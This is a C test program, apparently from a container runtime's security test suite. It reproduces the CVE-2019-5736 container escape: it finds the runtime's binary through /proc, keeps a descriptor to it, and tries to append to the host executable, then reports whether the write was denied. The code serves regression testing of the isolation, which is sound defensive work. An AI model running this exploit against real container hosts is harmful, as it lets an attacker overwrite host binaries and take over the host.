/* The CVE-2019-5736 attacker, as a container's PID 1 (tests/security/test_runtime_escape.cpp).
 * It waits for IsoLab's own binary to run inside its pid namespace (`isolab exec CTR
 * /proc/self/exe` makes that happen), keeps an O_PATH descriptor of that process's executable,
 * waits for the process to end, then reopens the descriptor for writing and appends to it, which
 * would replace the host's binary. It prints FOUND, then OVERWROTE or DENIED <reason>.
 * Static, so it runs in an image that has nothing but it and busybox. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void) {
    setvbuf(stdout, NULL, _IONBF, 0);
    printf("READY\n");
    for (;;) {
        DIR* d = opendir("/proc");
        if (!d) return 1;
        struct dirent* e;
        while ((e = readdir(d))) {
            if (!isdigit((unsigned char)e->d_name[0]) || strcmp(e->d_name, "1") == 0) continue;
            char p[64], link[4096];
            snprintf(p, sizeof p, "/proc/%s/exe", e->d_name);
            ssize_t n = readlink(p, link, sizeof link - 1);
            if (n <= 0) continue;
            link[n] = '\0';
            /* Anything that is not the image's own: IsoLab's binary shows as its host path, or as
             * "/" when it runs from a mount this namespace cannot see. */
            if (strstr(link, "busybox") || strcmp(link, "/attack") == 0) continue;
            int fd = open(p, O_PATH);
            if (fd < 0) continue; /* not dumpable: IsoLab's setup window, as it should be */
            printf("FOUND %s\n", link);
            char dir[64];
            snprintf(dir, sizeof dir, "/proc/%s", e->d_name);
            while (access(dir, F_OK) == 0) usleep(1000);
            char self[64];
            snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
            int w = open(self, O_WRONLY | O_APPEND);
            if (w >= 0 && write(w, "PWNED", 5) == 5) printf("OVERWROTE\n");
            else printf("DENIED %s\n", strerror(errno));
            for (;;) pause();
        }
        closedir(d);
    }
}
